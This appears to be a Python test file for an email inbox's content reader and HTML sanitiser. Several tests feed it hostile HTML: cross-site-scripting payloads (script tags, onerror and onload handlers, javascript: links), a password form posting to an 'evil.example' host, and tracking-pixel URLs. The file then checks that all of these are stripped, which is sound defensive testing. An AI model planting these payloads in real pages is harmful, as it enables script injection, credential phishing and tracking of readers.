"""What a person reads of a reply: its text, its HTML made safe, its attachments; whatever
arrives, nothing that runs, submits, loads or tracks reaches a page."""

from __future__ import annotations

import base64
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from outreach.inbox.content import MAX_BODY, read_content
from outreach.inbox.sanitise import ALLOWED_TAGS, safe_html
from tests.hypothesis_profiles import examples
from tests.inbox_messages import gmail_reply, outlook_html_reply, wire

KEEP_UP_TO = 10_000


def mixed(*parts: str, boundary: str = "b1") -> bytes:
    body = "".join(f"--{boundary}\n{part}\n" for part in parts)
    return wire(
        "From: Ada <ada@example.com>\nSubject: Re: hello\nMIME-Version: 1.0\n"
        f'Content-Type: multipart/mixed; boundary="{boundary}"\n\n{body}--{boundary}--\n'
    )


def attached(name_header: str, content_type: str, data: bytes, *extra: str) -> str:
    encoded = base64.encodebytes(data).decode("ascii")
    headers = "\n".join((f"Content-Type: {content_type}", *extra, name_header))
    return f"{headers}\nContent-Transfer-Encoding: base64\n\n{encoded}"


# Reading.


def test_a_gmail_reply_keeps_both_its_text_and_its_html() -> None:
    content = read_content(gmail_reply(), keep_attachments_up_to=KEEP_UP_TO)

    assert content.text.startswith("Hi Grace,\n\nThanks for reaching out.")
    assert "> I saw your talk on streaming ETL." in content.text
    assert content.html.startswith('<div dir="ltr">Hi Grace,')
    assert content.attachments == ()
    assert not content.truncated


def test_an_html_only_reply_from_outlook_is_read_as_html() -> None:
    content = read_content(outlook_html_reply(), keep_attachments_up_to=KEEP_UP_TO)

    assert content.text == ""
    assert "danke f&uuml;r die Nachricht" in content.html


def test_attachments_are_listed_by_name_type_and_size_with_bytes_only_under_the_limit() -> None:
    small, large = b"%PDF-1.4 small", b"x" * (KEEP_UP_TO + 1)
    raw = mixed(
        "Content-Type: text/plain; charset=utf-8\n\nSee attached.",
        attached('Content-Disposition: attachment; filename="offer.pdf"', "application/pdf", small),
        attached(
            "Content-Disposition: attachment; filename*=utf-8''Pr%C3%A4sentation.pptx",
            "application/vnd.ms-powerpoint",
            large,
        ),
        attached(
            'Content-Disposition: inline; filename="logo.png"',
            "image/png",
            b"\x89PNG",
            "Content-ID: <logo@ada>",
        ),
    )

    content = read_content(raw, keep_attachments_up_to=KEEP_UP_TO)

    assert content.text == "See attached."
    listed = [(a.filename, a.content_type, a.size, a.content_id) for a in content.attachments]
    assert listed == [
        ("offer.pdf", "application/pdf", len(small), None),
        ("Präsentation.pptx", "application/vnd.ms-powerpoint", len(large), None),
        ("logo.png", "image/png", 4, "logo@ada"),
    ]
    assert [a.data for a in content.attachments] == [small, None, b"\x89PNG"]


def test_text_in_a_charset_nobody_knows_is_guessed_rather_than_garbled() -> None:
    russian = "Здравствуйте, Грейс! Да, давайте поговорим на следующей неделе, во вторник."
    raw = (
        b"From: ivan@example.com\nSubject: Re: hello\nMIME-Version: 1.0\n"
        b"Content-Type: text/plain; charset=x-unknown-8bit\nContent-Transfer-Encoding: 8bit\n\n"
        + russian.encode("cp1251")
    )

    assert read_content(raw, keep_attachments_up_to=KEEP_UP_TO).text == russian


def test_a_ten_megabyte_body_is_cut_and_says_so() -> None:
    raw = wire("From: a@example.com\nSubject: log\n\n" + "line of a pasted log\n" * 500_000)

    content = read_content(raw, keep_attachments_up_to=KEEP_UP_TO)

    assert len(content.text) == MAX_BODY
    assert content.text.startswith("line of a pasted log\n")
    assert content.truncated


@settings(max_examples=examples(in_ci=500), deadline=None)
@given(st.binary(max_size=2_000))
def test_reading_never_raises_whatever_arrives(raw: bytes) -> None:
    read_content(raw, keep_attachments_up_to=KEEP_UP_TO)


# Showing HTML.


def test_scripts_handlers_forms_frames_and_remote_css_are_gone_and_the_words_stay() -> None:
    hostile = (
        '<p onclick="steal()">Yes, <b>Tuesday</b> works.</p>'
        "<script>alert(1)</script><style>body{background:url(https://t.example/p)}</style>"
        '<form action="https://evil.example"><input name="password"><button>Confirm</button></form>'
        '<iframe src="https://evil.example">x</iframe><a href="javascript:alert(1)">click</a>'
        '<span style="color:red;background-image:url(https://t.example/p)">red</span>'
        '<link rel="stylesheet" href="https://t.example/s.css"><meta http-equiv="refresh">'
    )

    shown = safe_html(hostile).html

    assert shown == (
        "<p>Yes, <b>Tuesday</b> works.</p>Confirmx"
        '<a target="_blank" rel="noopener noreferrer nofollow">click</a>'
        '<span style="color:red">red</span>'
    )


def test_remote_images_are_blocked_and_counted_until_a_person_shows_them() -> None:
    html = '<img src="https://t.example/open.gif" width="1"><img src="http://cdn.example/l.png">'

    blocked = safe_html(html)
    shown = safe_html(html, show_images=True)

    assert blocked.html == '<img width="1"><img>'
    assert blocked.blocked_images == 2
    # Plain http is never loaded into a page served over https.
    assert shown.html == '<img src="https://t.example/open.gif" width="1"><img>'
    assert shown.blocked_images == 1


def test_an_inline_image_is_shown_from_its_attachment_and_unknown_ones_are_dropped() -> None:
    html = '<img src="cid:logo@ada" alt="Ada Ltd"><img src="cid:missing@ada">'

    shown = safe_html(html, inline_images={"logo@ada": "/inbox/attachments/7"})

    assert shown.html == '<img src="/inbox/attachments/7" alt="Ada Ltd"><img>'
    assert shown.blocked_images == 0


def test_links_open_elsewhere_and_never_into_this_app() -> None:
    html = '<a href="https://ada.example">site</a><a href="/senders/1/delete">x</a>'

    assert safe_html(html).html == (
        '<a href="https://ada.example" target="_blank" rel="noopener noreferrer nofollow">'
        'site</a><a rel="noopener noreferrer nofollow" target="_blank">x</a>'
    )


ALLOWED = {
    "a": {"href", "target", "rel"},
    "img": {"src", "alt", "width", "height"},
    "td": {"colspan", "rowspan", "valign"},
    "th": {"colspan", "rowspan", "valign"},
    "font": {"color"},
}
EVERYWHERE = {"style", "title", "align", "dir"}
HOSTILE_PIECES = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//x.example/a.js>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        '<a href="javascript:alert(1)">',
        '<a href="JaVaScRiPt:x">',
        "<iframe srcdoc='<script>x</script>'>",
        "<object data=x>",
        "<embed src=x>",
        "<form><input><button formaction=x>",
        "<style>@import url(//x)</style>",
        '<div style="background:url(//x)">',
        "<base href=//x>",
        "<meta http-equiv=refresh>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<",
        ">",
        '"',
        "'",
        "&lt;script&gt;",
        "</p>",
        '<img src="https://t.example/p.gif">',
        '<img src="cid:a@b">',
        "<math><mi>",
        "<table><tr><td colspan=2 onmouseover=x>",
        "<p>",
        "<b>",
        "<a href=https://ok.example>",
        '<span style="color:red;position:fixed">',
        "<noscript><p title='</noscript><img>'>",
    ]
)
HOSTILE_HTML = st.lists(st.one_of(HOSTILE_PIECES, st.text(max_size=12)), max_size=30).map("".join)


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@settings(max_examples=examples(in_ci=2_000), deadline=None)
@given(HOSTILE_HTML, st.booleans())
def test_no_markup_from_a_reply_reaches_a_page_but_the_allowed_kinds(
    html: str, show_images: bool
) -> None:
    shown = safe_html(html, show_images=show_images).html
    markup = _Markup()
    markup.feed(shown)
    markup.close()

    for tag, attributes in markup.found:
        assert tag in ALLOWED_TAGS
        assert tag not in {"script", "style", "iframe", "form", "input", "svg", "math", "base"}
        assert set(attributes) <= ALLOWED.get(tag, set()) | EVERYWHERE
        for name, value in attributes.items():
            assert not (value or "").lower().lstrip().startswith(("javascript", "data", "//"))
            if name == "style":
                assert "url(" not in (value or "").lower()
        if tag == "img" and "src" in attributes:
            assert show_images
            assert (attributes["src"] or "").startswith("https://")
    assert "<script" not in shown.lower()
